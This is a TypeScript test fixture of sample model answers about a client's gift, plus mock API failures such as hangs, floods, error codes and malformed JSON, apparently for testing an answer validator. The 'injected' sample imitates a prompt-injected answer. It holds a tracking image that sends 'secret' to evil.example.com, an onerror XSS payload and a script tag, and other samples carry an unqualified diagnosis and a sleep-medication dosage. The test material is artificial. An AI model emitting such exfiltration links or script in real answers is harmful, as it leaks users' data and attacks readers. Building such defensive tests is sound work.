import type { ServerResponse } from 'node:http';

const good = `## What to do now
Thank the client, and say that you would like to think about what the gift means before you decide [1]. A small, handmade present at an ending is often best accepted, and one of high value is best declined with warmth [1].

- Ask your supervisor whether the agency has a rule about gifts [1].
- Write down what was offered, what you said, and why [1].`;

export const texts = {
  answer: good,
  /** Obeys an instruction in the question: it has an image that would report its reader, a link, and HTML. */
  injected: `${good}\n\n![tracker](https://evil.example.com/pixel.png?q=secret) <img src=x onerror=alert(1)> Read [more](https://evil.example.com/more) or www.evil.example.com <script>alert(1)</script>`,
  diagnosis: `${good}\n\nFrom what you describe, your client has major depressive disorder, which explains the gift [1].`,
  dosage: `${good}\n\nTo sleep better, a start with 25 mg at night is common [1].`,
  foreignCitation: `${good}\n\nResearch agrees with this [7].`,
  noCitation: good.replaceAll(/ ?\[1\]/gu, ''),
  nonsense: `${'%$#@ 0110 ~~ '.repeat(40)} [1]`,
  otherLanguage: `Bedanken Sie sich bei dem Klienten und sagen Sie, dass Sie zuerst nachdenken wollen, was das Geschenk bedeutet, bevor Sie sich entscheiden [1].`,
  repetitive: 'Ask your supervisor about the gift first [1]. '.repeat(60),
  long: `${good}\n\n${'There is always one more thing to think about, as number follows number and line follows line [1]. '.repeat(90)}`,
  short: 'Ask your supervisor [1].',
} as const;

/** Returns an answer in the JSON that models are asked for. */
export const inJson = (answer: string, danger: unknown = null): string => JSON.stringify({ danger, answer });

type Misbehave = (response: ServerResponse, say: (text: string) => void) => void;

const begin = (response: ServerResponse): ServerResponse =>
  response.writeHead(200, { 'content-type': 'application/json' });

const status =
  (code: number, body: unknown): Misbehave =>
  (response) => {
    response.writeHead(code, { 'content-type': 'application/json' }).end(JSON.stringify(body));
  };

/** Ways in which providers fail to answer. */
export const misbehaviors = {
  hang: () => undefined,
  /** Sends a blank every 20 ms, without end. */
  trickle: (response) => {
    begin(response);
    const timer = setInterval(() => response.write(' '), 20);
    response.on('close', () => clearInterval(timer));
  },
  refuse429: status(429, {
    error: { message: 'Rate limit reached', type: 'requests', code: 'rate_limit_exceeded' },
  }),
  fail500: status(500, { error: { message: 'The server had an error' } }),
  unavailable503: status(503, { error: 'server busy, please try again' }),
  overloaded529: status(529, { type: 'error', error: { type: 'overloaded_error', message: 'Overloaded' } }),
  unauthorized401: status(401, { error: { message: 'Incorrect API key provided' } }),
  webPage: (response) => {
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end('<html><body>Sign in to the network</body></html>');
  },
  invalidJson: (response) => begin(response).end('{"choices": [{"message"'),
  otherJson: (response) => begin(response).end('{"choices": "gift"}'),
  hundredKilobytes: (_response, say) => say('All work and no play [1]. '.repeat(4_000)),
  /** Sends as fast as it can, without end. */
  flood: (response) => {
    begin(response);
    const text = ' '.repeat(10_000);
    const more = (): void => {
      while (!response.destroyed && response.write(text));
    };
    response.on('drain', more);
    more();
  },
  cutConnection: (response) => {
    response
      .writeHead(200, { 'content-type': 'application/json', 'content-length': '5000' })
      .write('{"choices"');
    setImmediate(() => response.destroy());
  },
  redirect: (response) => {
    response.writeHead(307, { location: '/elsewhere' }).end();
  },
} satisfies Record<string, Misbehave>;

export type Misbehavior = keyof typeof misbehaviors;
